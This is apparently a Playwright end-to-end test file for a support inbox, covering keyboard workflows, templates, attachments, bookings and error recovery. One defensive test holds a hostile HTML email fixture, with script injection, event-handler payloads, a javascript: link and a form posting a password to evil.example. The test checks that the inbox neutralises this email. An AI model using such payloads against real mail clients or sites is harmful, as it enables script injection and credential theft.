import { randomInt } from 'node:crypto'
import { truncateSync, writeFileSync } from 'node:fs'
import type { Page } from '@playwright/test'
import type { Desk } from './desk.ts'
import {
  arrived,
  customerWrites,
  found,
  mailComes,
  openThread,
  openWhatsApp,
  somebody,
} from './inbox-steps.ts'
import { alive, axeFaults, expect, test } from './journey.ts'
import { storageOf } from './people.ts'

test.use({ storageState: storageOf('agent') })

const messages = (page: Page) => page.getByRole('region', { name: 'Messages' })
const rows = (page: Page) => page.getByRole('feed', { name: 'Conversations' })

async function statusOf(desk: Desk, name: string): Promise<string[]> {
  const { items } = await desk.get<{ items: { status: string }[] }>('/conversations', { q: name })
  return items.map(({ status }) => status)
}

test('the whole work by keyboard: give on, label, put aside, resolve, and Z takes each back (INBX-016)', async ({
  page,
  desk,
}) => {
  const who = somebody('Kay')
  await customerWrites(desk, await openWhatsApp(desk), who, 'The tap drips again')
  await arrived(desk, who.name)
  await page.goto(found(who))
  await alive(page)
  await page.keyboard.press('j')
  await page.keyboard.press('Enter')
  await expect(messages(page)).toContainText('The tap drips again')
  const bar = page.getByRole('region', { name: `Conversation with ${who.name}` })

  await page.keyboard.press('a')
  await page.getByRole('combobox', { name: 'Give to…' }).pressSequentially('Nadia')
  await page.keyboard.press('Enter')
  await expect(bar.getByRole('button', { name: /Give to somebody: Nadia Rahman/ })).toBeVisible()

  await page.keyboard.press('l')
  await page.getByRole('combobox', { name: 'Labels…' }).pressSequentially(`tap ${who.from.slice(-6)}`)
  await page.keyboard.press('Enter')
  await page.keyboard.press('Escape')
  await expect(bar.getByRole('button', { name: /Set labels: tap/ })).toBeVisible()
  await page.keyboard.press('z')
  await expect(bar.getByRole('button', { name: 'Set labels: Label' })).toBeVisible()

  await page.keyboard.press('s')
  await page.getByRole('combobox', { name: 'See it again…' }).press('Enter')
  await expect(bar.getByRole('button', { name: 'Wake' })).toBeVisible()
  await page.keyboard.press('z')
  await expect(bar.getByRole('button', { name: 'Snooze' })).toBeVisible()

  await page.keyboard.press('r')
  await page.getByRole('combobox', { name: 'Reply' }).pressSequentially('We come and look.')
  await page.keyboard.press('Control+Enter')
  await expect(messages(page).getByRole('listitem').filter({ hasText: 'come and look' })).toContainText(
    'sent',
  )
  await page.keyboard.press('Escape')
  await page.keyboard.press('e')
  await expect(bar.getByRole('button', { name: 'Open again' })).toBeVisible()
  await page.keyboard.press('z')
  await expect(page.getByText('Taken back').last()).toBeVisible()
  await expect.poll(() => statusOf(desk, who.name)).toEqual(['open'])
})

test('several are resolved at once, and opened again by Undo; a search marks what it found', async ({
  page,
  desk,
}) => {
  const channel = await openWhatsApp(desk)
  const word = `Fenster${randomInt(1e6)}`
  for (const first of ['Una', 'Vera', 'Wim']) {
    await customerWrites(desk, channel, somebody(first), `About the ${word} then`)
  }
  await arrived(desk, word, 3)
  await page.goto(`/inbox?view=all&q=${word}`)
  await alive(page)
  await expect(rows(page).locator('mark', { hasText: word })).toHaveCount(3)
  await page.keyboard.press('j')
  await page.keyboard.press('x')
  await page
    .getByRole('region', { name: 'Selected conversations' })
    .getByRole('button', { name: 'All shown' })
    .click()
  await page.keyboard.press('e')
  await expect(page.getByText('3 conversations resolved')).toBeVisible()
  expect(await statusOf(desk, word)).toEqual(['resolved', 'resolved', 'resolved'])
  await page.getByRole('button', { name: 'Undo' }).first().click()
  await expect.poll(() => statusOf(desk, word)).toEqual(['open', 'open', 'open'])
})

test('a view is kept by name with everything that stands in the address (INBX-016)', async ({ page }) => {
  const name = `Journey view ${randomInt(1e6)}`
  await page.goto('/inbox?view=all&channelKind=whatsapp&sort=newest')
  await alive(page)
  const menu = page.getByRole('button', { name: 'Views and selection' })
  await menu.click()
  await page.getByText('Save or delete views').click()
  await page.getByLabel('Save the present filter as').fill(name)
  await page.getByRole('button', { name: 'Save view' }).click()
  await page.getByRole('link', { name: 'Clear' }).click()
  await expect(page).not.toHaveURL(/whatsapp/)
  await menu.click()
  await page.getByRole('link', { name }).click()
  await expect(page).toHaveURL(/channelKind=whatsapp.*sort=newest/)
  await menu.click()
  await page.getByText('Save or delete views').click()
  await page.getByRole('button', { name: `Delete ${name}` }).click()
  await expect(page.getByRole('button', { name: `Delete ${name}` })).toBeHidden()
})

test('after 24 hours only a template is sent: its variable is asked for, and what the client reads is shown (INBX-012)', async ({
  page,
  desk,
}) => {
  const who = somebody('Late')
  const channel = await openWhatsApp(desk)
  const { id } = await desk.post<{ id: string }>('/channel-templates', {
    channelKind: 'whatsapp',
    channelId: channel.id,
    name: `journey_${randomInt(1e9)}`,
    body: 'Hello {{1}}, your cleaner is {{2}}. Does that suit?',
    examples: ['Ana', 'Marcus'],
  })
  await desk.post(`/channel-templates/${id}/submit`, {})
  await customerWrites(desk, channel, who, 'Who comes next week?', 30)
  await arrived(desk, who.name)
  await openThread(page, who)
  await expect(page.getByText(/^More than 24 hours have passed since/)).toBeVisible()
  await page.getByRole('button', { name: 'Choose a template' }).click()
  await page.getByRole('button', { name: /journey_/ }).click()
  const dialog = page.getByRole('dialog')
  await expect(dialog.getByRole('button', { name: 'Send', exact: true })).toBeDisabled()
  await dialog.getByLabel('Variable 2').fill('Grace')
  await expect(dialog).toContainText('your cleaner is Grace. Does that suit?')
  await dialog.getByRole('button', { name: 'Send', exact: true }).click()
  await expect(messages(page)).toContainText('your cleaner is Grace. Does that suit?')
})

const NASTY = `<meta http-equiv="refresh" content="0;url=https://evil.example">
<style>body{background:url(https://evil.example/a.png)}</style>
<script>parent.document.title='owned'</script>
<h1 style="background:url(https://evil.example/b.png)" onclick="alert(1)">Three rooms</h1>
<p><a href="javascript:parent.document.title='owned'">here</a> <a href="https://example.com/ok">our page</a></p>
<img src="x" onerror="parent.document.title='owned'"><svg onload="parent.document.title='owned'"></svg>
<form action="https://evil.example/steal"><input name="password"></form>
<img src="https://pics.example/logo.png" alt="Our logo"><img src="https://track.example/p.gif" width="1" height="1">
<div class="gmail_quote"><blockquote>On Monday you wrote: how much is it?</blockquote></div>`
const PIXEL = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')

test('a mail that means harm is shown harmless; its images come from us and only when asked for (INBX-018)', async ({
  page,
  desk,
}) => {
  const { name } = somebody('Mel')
  await mailComes(desk, { name, subject: 'Quote', text: 'Three rooms', html: NASTY })
  await arrived(desk, name)
  const outside: string[] = []
  const images: string[] = []
  page.on('request', (request) => {
    const { hostname, pathname } = new URL(request.url())
    if (hostname.endsWith('.example')) outside.push(request.url())
    if (/\/messages\/[^/]+\/images\//.test(pathname)) images.push(pathname)
  })
  // The senders' servers do not exist: what ours would answer for the one that is there, and for the one that is not.
  await page.route('**/api/v1/conversations/messages/*/images/*', (route) =>
    route.request().url().endsWith('/0')
      ? route.fulfill({ contentType: 'image/gif', body: PIXEL })
      : route.fulfill({ status: 404 }),
  )
  await openThread(page, { name })
  const frame = page.getByTitle(`Mail from ${name}`)
  await expect(frame).toHaveAttribute('sandbox', /^(?!.*allow-scripts)/)
  const mail = frame.contentFrame()
  await expect(mail.getByRole('heading', { name: 'Three rooms' })).toBeVisible()
  await expect(mail.getByText('how much is it?')).toBeHidden()
  expect(
    await mail.locator('script, svg, form, input, style ~ style, meta[http-equiv=refresh], img').count(),
  ).toBe(0)
  expect(await mail.locator('[onclick], [onerror], body [style], a[href^="javascript"]').count()).toBe(0)
  expect(await axeFaults(page)).toEqual([])
  expect(images).toEqual([])

  await page.getByRole('button', { name: 'Show images' }).click()
  await expect(mail.getByRole('img', { name: 'Our logo' })).toHaveAttribute('src', /\/images\/0$/)
  await expect(page.getByText('A picture could not be fetched.')).toBeVisible()
  expect(images.length).toBeGreaterThanOrEqual(2)
  expect(outside).toEqual([])
  await expect(page).toHaveTitle(/Inbox|Mel/)
})

test('files that are not what they say or too large are refused by name with what helps (INBX-017)', async ({
  page,
  desk,
}, info) => {
  const who = somebody('Phil')
  await customerWrites(desk, await openWhatsApp(desk), who, 'Please send the price list')
  await arrived(desk, who.name)
  await openThread(page, who)
  const [chooser] = await Promise.all([
    page.waitForEvent('filechooser'),
    page.getByRole('button', { name: 'Attach files' }).click(),
  ])
  const [photo, film, prices] = ['photo.png', 'film.mp4', 'prices.txt'].map((name) => info.outputPath(name))
  writeFileSync(photo!, '<html><script>1</script></html>')
  writeFileSync(film!, '')
  truncateSync(film!, 17 * 1024 * 1024)
  writeFileSync(prices!, 'Regular clean: £44')
  await chooser.setFiles([photo!, film!, prices!])
  const files = page.getByRole('list', { name: 'Files' }).getByRole('listitem')
  await expect(files.filter({ hasText: 'photo.png' })).toContainText(/web pages?|refused|not|send/i)
  await expect(files.filter({ hasText: 'film.mp4' })).toContainText('16 MB')
  await expect(files.filter({ hasText: 'prices.txt' })).toContainText('B')
  await page.getByRole('button', { name: 'Leave out photo.png' }).click()
  await page.getByRole('button', { name: 'Leave out film.mp4' }).click()
  await page.getByRole('button', { name: 'Send', exact: true }).click()
  await expect(messages(page).getByRole('link', { name: /prices\.txt/ })).toBeVisible()
})

test('a reaction stands on its message, an answer names what it answers; two contacts become one person and two again (INBX-015)', async ({
  page,
  desk,
}) => {
  const channel = await openWhatsApp(desk)
  const who = somebody('Mia')
  const twin = somebody('Ida')
  const first = await customerWrites(desk, channel, who, 'Is Tuesday free?')
  await customerWrites(desk, channel, who, { type: 'reaction', reaction: { message_id: first, emoji: '👍' } })
  await customerWrites(desk, channel, who, { type: 'reaction', reaction: { message_id: first, emoji: '❤️' } })
  const answer = { type: 'text', text: { body: 'Or Wednesday' }, context: { id: first } }
  await customerWrites(desk, channel, who, answer)
  await customerWrites(desk, channel, twin, 'Hello from work')
  await arrived(desk, twin.name)
  await openThread(page, who)
  const asked = messages(page).getByRole('listitem').filter({ hasText: 'Is Tuesday free?' }).first()
  await expect(asked).toContainText('❤️')
  await expect(asked).not.toContainText('👍')
  await expect(page.getByRole('button', { name: /In answer to .*Is Tuesday free/ })).toBeVisible()

  const menu = page.getByRole('region', { name: /Conversation with/ }).getByRole('button', { name: 'More' })
  await menu.click()
  await page.getByText('Same person as…').click()
  const dialog = page.getByRole('dialog', { name: /is the same person as/ })
  const other = dialog.getByRole('listitem').filter({ hasText: twin.name })
  await dialog.getByRole('searchbox').fill(twin.name)
  await other.getByRole('button', { name: 'Same person' }).click()
  await expect(page.getByText('Now one person')).toBeVisible()
  await menu.click()
  await page.getByText('Same person as…').click()
  await dialog.getByRole('button', { name: 'Take back' }).click()
  await expect(page.getByText('Two people again')).toBeVisible()
  await expect(dialog.getByText('Said before')).toBeHidden()
})

test('a visit is booked without leaving the conversation: the panel shows it, the reply tells the time (INBX-025)', async ({
  page,
  desk,
}) => {
  // A number that no client of the firm has, and that their records take.
  const who = { ...somebody('Bo'), from: `49151${randomInt(1e7, 9e7)}` }
  await customerWrites(desk, await openWhatsApp(desk), who, 'Can I have a clean next week?')
  await arrived(desk, who.name)
  await openThread(page, who)
  const panel = page.getByRole('complementary', { name: 'Client' })
  await panel.getByRole('button', { name: /New client/ }).click()
  await expect(panel.getByText('Nothing is planned.')).toBeVisible()
  await panel.getByRole('button', { name: 'Book', exact: true }).click()
  const dialog = page.getByRole('dialog', { name: /^Book for/ })
  const service = dialog.getByLabel('Service')
  const clean = service.locator('option', { hasText: /^Regular clean/ })
  await service.selectOption((await clean.first().getAttribute('value'))!)
  await dialog.getByLabel('House number and street').fill('3 Church Street')
  await dialog.getByLabel('Town').fill('London')
  await dialog.getByLabel('Postcode').fill('N16 8JR')
  await dialog.getByRole('button', { name: 'Next week' }).click()
  const time = dialog.getByRole('radio').first()
  await time.check({ force: true })
  await dialog.getByRole('button', { name: 'Book visit' }).click()
  await expect(dialog).toBeHidden()
  await expect(panel.getByText('Confirmed')).toBeVisible()
  await expect(page.getByRole('combobox', { name: 'Reply' })).toHaveValue(
    /Your visit is booked: Regular clean on .* with /,
  )
})

test('when the server fails the inbox says so and recovers; what was written stays', async ({
  page,
  desk,
  calm,
}) => {
  const who = somebody('Err')
  await customerWrites(desk, await openWhatsApp(desk), who, 'Anybody there?')
  await arrived(desk, who.name)
  await openThread(page, who)
  const problem = { title: 'Something broke', status: 500, code: 'internal', detail: 'It is our fault.' }
  const fail = { status: 500, contentType: 'application/problem+json', body: JSON.stringify(problem) }
  await page.route('**/api/v1/conversations**', (route) => route.fulfill(fail))
  await page.route('**/api/v1/conversations/*/replies', (route) => route.fulfill(fail))
  const reply = page.getByRole('combobox', { name: 'Reply' })
  await reply.fill('Yes, we are.')
  await page.keyboard.press('Control+Enter')
  await expect(page.getByRole('alert').filter({ hasText: 'It is our fault.' }).first()).toBeVisible()
  await expect(reply).toHaveValue('Yes, we are.')
  await page.getByRole('link', { name: /^Unassigned/ }).click()
  const list = page.getByRole('region', { name: 'Inbox' })
  await expect(list.getByRole('button', { name: 'Try again' })).toBeVisible()
  await page.unrouteAll()
  await list.getByRole('button', { name: 'Try again' }).click()
  await expect(rows(page)).toBeVisible()
  await page.goBack()
  await expect(reply).toHaveValue('Yes, we are.')
  calm.list.length = 0
})

test.describe('on a phone', () => {
  test.use({ viewport: { width: 390, height: 844 }, hasTouch: true })

  test('list, thread and client are three steps, each with a way back', async ({ page, desk }) => {
    const who = somebody('Pam')
    await customerWrites(desk, await openWhatsApp(desk), who, 'On the bus')
    await arrived(desk, who.name)
    await openThread(page, who)
    await page.getByRole('button', { name: 'Show the client' }).click()
    const client = page.getByRole('dialog', { name: 'Client' })
    await expect(client).toContainText('Which client is this?')
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)
    expect(overflow).toBeLessThanOrEqual(0)
    expect(await axeFaults(page)).toEqual([])
    await client.getByRole('button', { name: 'Close' }).click()
    await page.goBack()
    await expect(rows(page)).toBeVisible()
  })
})
